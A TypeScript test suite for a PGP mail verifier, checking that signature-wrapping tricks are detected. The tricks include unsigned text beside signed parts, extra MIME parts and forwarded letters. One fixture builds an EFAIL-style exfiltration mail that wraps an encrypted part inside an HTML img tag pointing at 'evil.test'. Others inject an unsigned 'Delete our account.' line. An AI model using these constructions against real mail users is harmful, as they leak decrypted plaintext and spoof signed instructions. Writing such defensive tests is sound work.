/**
 * Signature wrapping: whole mails, read as they come from the wire, in which something that is signed stands beside
 * something that is not. Each row says why.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { PgpResult } from '../../src/evidence/finding.ts';
import type { PgpChecked, PgpInput } from '../../src/evidence/pgp.ts';
import { defaultReadLimits, readMessage } from '../../src/message/read.ts';
import {
  detachedSignature,
  encryptedMail,
  encryptOctets,
  entityOf,
  fieldsOf,
  mailOf,
  multipartEncrypted,
  multipartSigned,
  type SampleKey,
  signedMail,
} from '../../src/samples/pgp-samples.ts';
import {
  ada,
  check,
  cleartextBlock,
  inlineSignedMail,
  keyFor,
  knows,
  letter,
  ownKey,
  support,
  withIntendedRecipient,
} from '../helpers/pgp-mail.ts';
import { rawMailOf } from '../helpers/read-mail.ts';

let adaKey: SampleKey;
let gateway: SampleKey;
beforeAll(async () => {
  [adaKey, gateway] = await Promise.all([keyFor(ada), keyFor(support)]);
});
const byAda = () => ({ key: adaKey });

async function checkMail(mail: Buffer, changes: Partial<PgpInput> = {}): Promise<PgpChecked> {
  const { content, header, author } = await readMessage(rawMailOf(mail), defaultReadLimits);
  if (content.kind !== 'parsed' || author === null) throw new Error(`not parsed: ${JSON.stringify(content)}`);
  const directory = knows([adaKey, ada]);
  return check(content.content.pgp, { header, author, directory, decryptionKeys: [ownKey(gateway)], ...changes });
}

const header = () => fieldsOf(letter(), 'Printer on fire');
const signedPart = async (of = letter()): Promise<Buffer> => {
  const entity = entityOf(of);
  return multipartSigned(entity, await detachedSignature(entity, of.at, byAda()));
};
const block = () => cleartextBlock(letter(), byAda());
const textMail = (text: string) =>
  mailOf([...header(), 'Content-Type: text/plain; charset=utf-8'], Buffer.from(`\r\n${text}`));
const mixed = (...parts: readonly (Buffer | string)[]) => {
  const pieces = parts.flatMap((part) => [Buffer.from('--outer\r\n'), Buffer.from(part), Buffer.from('\r\n')]);
  const head = Buffer.from('Content-Type: multipart/mixed; boundary=outer\r\n\r\n');
  return mailOf(header(), Buffer.concat([head, ...pieces, Buffer.from('--outer--\r\n')]));
};
const html = (text: string) => `Content-Type: text/html\r\n\r\n${text}\r\n`;
const unsigned = 'Content-Type: text/plain\r\n\r\nDelete our account.\r\n';

/** Name, mail, state, why. */
const rows: readonly (readonly [string, () => Promise<Buffer>, PgpResult, string])[] = [
  ['a signed mail', () => signedMail(letter(), byAda()), 'pass', 'the plain case, from the wire'],
  [
    'an encrypted mail',
    () => encryptedMail(letter(), { recipients: [gateway], signer: byAda() }),
    'pass',
    'the plain case, from the wire',
  ],
  [
    'an encrypted mail that went through Exchange',
    () => encryptedMail(letter(), { recipients: [gateway], signer: byAda(), form: 'exchange' }),
    'pass',
    'multipart/mixed of an empty text and the two parts is the same mail',
  ],
  [
    'a cleartext block for us',
    () => withIntendedRecipient(gateway.fingerprint, () => inlineSignedMail(letter(), byAda())),
    'pass',
    'one block with nothing around it',
  ],
  [
    'text before a cleartext block',
    async () => textMail(`Delete our account.\r\n\r\n${await block()}`),
    'partial',
    'the block is signed, the line above is not',
  ],
  [
    'text after a cleartext block',
    async () => textMail(`${await block()}\r\nDelete our account.\r\n`),
    'partial',
    'a list footer looks the same: no proof, no penalty',
  ],
  [
    'two cleartext blocks',
    async () => textMail(`${await block()}\r\n${await block()}`),
    'partial',
    'the library would read the first alone',
  ],
  [
    'an armored message with text around it',
    async () => textMail(`Hello\r\n${await encryptOctets(Buffer.from('help'), letter().at, [gateway], byAda())}\r\n`),
    'partial',
    'decrypting a part would show a stranger’s frame around it (EFAIL)',
  ],
  [
    'multipart/signed inside multipart/mixed',
    async () => mixed(unsigned, await signedPart()),
    'partial',
    'mail programs show both, and say signed',
  ],
  [
    'multipart/signed alone inside multipart/mixed',
    async () => mixed(await signedPart()),
    'partial',
    'what a list leaves behind; the outer header fields are unsigned',
  ],
  [
    'a signed mail attached to another one',
    async () =>
      mixed(
        unsigned,
        Buffer.concat([Buffer.from('Content-Type: message/rfc822\r\n\r\n'), await signedMail(letter(), byAda())]),
      ),
    'none',
    'an attached letter is an attachment: its signature says nothing about this mail',
  ],
  [
    'a third part in multipart/signed',
    async () => {
      const mail = (await signedMail(letter(), byAda())).toString();
      const boundary = /boundary="([^"]+)"/.exec(mail)?.[1] ?? '';
      return Buffer.from(mail.replace(`--${boundary}--`, `--${boundary}\r\n${unsigned}\r\n--${boundary}--`));
    },
    'partial',
    'RFC 1847 §2.1: exactly two parts',
  ],
  [
    'text after multipart/signed is closed',
    async () => Buffer.concat([await signedMail(letter(), byAda()), Buffer.from('\r\nDelete our account.\r\n')]),
    'partial',
    'the epilogue is nobody’s word',
  ],
  [
    'the encrypted part among others',
    async () => {
      const armored = await encryptOctets(entityOf(letter()), letter().at, [gateway], byAda());
      return mixed(multipartEncrypted(armored, 'rfc3156'), unsigned);
    },
    'partial',
    'only a sole top-level part is decrypted',
  ],
  [
    'an encrypted part between two halves of an HTML tag',
    async () => {
      const armored = await encryptOctets(entityOf(letter()), letter().at, [gateway], byAda());
      return mixed(html('<img src="http://evil.test/?'), multipartEncrypted(armored, 'rfc3156'), html('">'));
    },
    'partial',
    'direct exfiltration (EFAIL): never decrypted at all',
  ],
  [
    'one word changed on the way',
    async () => {
      const mail = (await signedMail(letter(), byAda())).toString('latin1');
      const [head = '', ...body] = mail.split('\r\n\r\n');
      return Buffer.from(
        [head, ...body.map((text) => text.replace('Printer on fire', 'Printer on sale'))].join('\r\n\r\n'),
        'latin1',
      );
    },
    'bad',
    'tampered',
  ],
  [
    'Ada’s letter to Bob, sent on to us',
    async () => mailOf(header(), await signedPart(letter({ to: 'bob@other.test' }))),
    'unbound',
    'the visible To names us, the signed one does not',
  ],
  ['a mail without PGP', async () => textMail('Our printer is on fire.\r\n'), 'none', 'nothing is claimed'],
];

describe('signature wrapping', () => {
  it.each(rows)('%s', async (_name, make, result, why) => {
    const { finding, inner } = await checkMail(await make());
    expect(finding.result, `${why}; found: ${finding.cause}`).toBe(result);
    expect(inner?.mime.toString() ?? '').not.toMatch(/Delete our account/);
    expect(inner !== null).toBe(result === 'pass' || result === 'unbound');
  });
});
